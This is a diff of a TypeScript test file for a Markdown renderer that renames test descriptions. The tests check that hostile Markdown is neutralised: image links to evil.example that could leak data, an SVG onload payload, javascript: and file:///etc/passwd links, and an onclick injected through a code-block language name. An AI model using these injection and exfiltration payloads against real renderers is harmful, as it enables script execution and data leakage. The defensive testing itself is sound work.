@@ -32,18 +32,18 @@ function expectHarmless(box: Element): void {
 
 const dataUrl = `data:image/svg+xml;base64,${btoa('<svg onload="alert(1)"/>')}`;
 
-describe('hostile markdown', () => {
+describe('rendering hostile Markdown', () => {
   it.each([
     ['inline', '![secret](https://evil.example/p.png?d=1)', 'evil.example'],
     ['with a title', '![secret](https://evil.example/p.png "t")', 'evil.example'],
     ['by reference', '![secret][r]\n\n[r]: https://evil.example/p.png', 'evil.example'],
-    ['by its own name', '![secret]\n\n[secret]: https://evil.example/p.png', 'evil.example'],
+    ['by shortcut reference', '![secret]\n\n[secret]: https://evil.example/p.png', 'evil.example'],
     ['inside a link', '[![secret](https://evil.example/p.png)](https://good.example)', 'evil.example'],
     ['in a table', '| a |\n|---|\n| ![secret](https://evil.example/p) |', 'evil.example'],
     ['without a scheme', '![secret](//evil.example/p.png)', ''],
-    ['relative', '![secret](../p.png)', ''],
-    ['as data', `![secret](${dataUrl})`, ''],
-    ['of the editor', '![secret](vscode-webview-resource://x/y)', ''],
+    ['with a relative path', '![secret](../p.png)', ''],
+    ['from a data URL', `![secret](${dataUrl})`, ''],
+    ['from a webview resource URL', '![secret](vscode-webview-resource://x/y)', ''],
   ])('never loads an image %s', (_how, source, place) => {
     const box = show(source);
     expectHarmless(box);
@@ -70,7 +70,7 @@ describe('hostile markdown', () => {
     'relative.md',
     '#anchor',
     '?query',
-  ])('follows no link to %s', (href) => {
+  ])('does not create a link to %s', (href) => {
     for (const source of [`[read me](<${href}>)`, `[read me][r]\n\n[r]: <${href}>`]) {
       const box = show(source);
       expectHarmless(box);
@@ -79,7 +79,7 @@ describe('hostile markdown', () => {
     }
   });
 
-  it.each(['<javascript:alert(1)>', '<command:run>', '<file:///etc/passwd>'])('makes no link of %s', (source) => {
+  it.each(['<javascript:alert(1)>', '<command:run>', '<file:///etc/passwd>'])('creates no link from %s', (source) => {
     expect(show(source).querySelector('a')).toBeNull();
   });
 
@@ -89,13 +89,13 @@ describe('hostile markdown', () => {
     ['https://g\u043eogle.com/', 'xn--gogle-jye.com'],
     ['http://host.example:8080/x', 'host.example:8080'],
     ['mailto:me@host.example', 'me@host.example'],
-  ])('shows where %s leads', (href, place) => {
+  ])('shows the destination of %s', (href, place) => {
     const box = show(`[https://google.com](<${href}>)`);
     expectHarmless(box);
     expect(box.querySelector('a + .link-place')?.textContent).toBe(place);
   });
 
-  it('says it once when the link is its own address', () => {
+  it('shows the destination once if the link text is the address', () => {
     expect(show('<https://good.example/>').textContent).toBe('https://good.example/');
   });
 
@@ -127,7 +127,7 @@ describe('hostile markdown', () => {
     }
   });
 
-  it('takes no element or attribute from the name of a language', () => {
+  it('creates no elements or attributes from the language of a code block', () => {
     const box = show('```js"onclick="alert(1)\nx\n```\n\n```<b>x</b>\ny\n```');
     expectHarmless(box);
     expect([...box.querySelectorAll('.code-language')].map((one) => one.textContent)).toEqual([
@@ -136,13 +136,13 @@ describe('hostile markdown', () => {
     ]);
   });
 
-  it('aligns cells without a style', () => {
+  it('aligns table cells without inline styles', () => {
     const box = show('| a | b |\n|--:|:-:|\n| 1 | 2 |');
     expect(box.querySelector('[style]')).toBeNull();
     expect([...box.querySelectorAll('td')].map((cell) => cell.className)).toEqual(['align-right', 'align-center']);
   });
 
-  it('is harmless for all samples and for any mix of dangerous words', () => {
+  it('creates only safe elements for all samples and for random hostile input', () => {
     for (const source of Object.values(samples)) expectHarmless(show(source));
     const words = fc.constantFrom(
       ...[
@@ -188,12 +188,12 @@ describe('hostile markdown', () => {
   });
 });
 
-describe('what no parser should give', () => {
+describe('rendering unexpected tokens', () => {
   const ELEMENT_NAMES = 'script iframe img style base meta form input svg math object embed link video template'.split(
     ' ',
   );
 
-  it.each(ELEMENT_NAMES)('an element of the name %s is none', (tag) => {
+  it.each(ELEMENT_NAMES)('never creates a %s element', (tag) => {
     const hostile = (type: string, nesting: -1 | 0 | 1) => {
       const token = new MarkdownIt().parse('x', {})[0];
       if (token === undefined) throw new Error('no token');
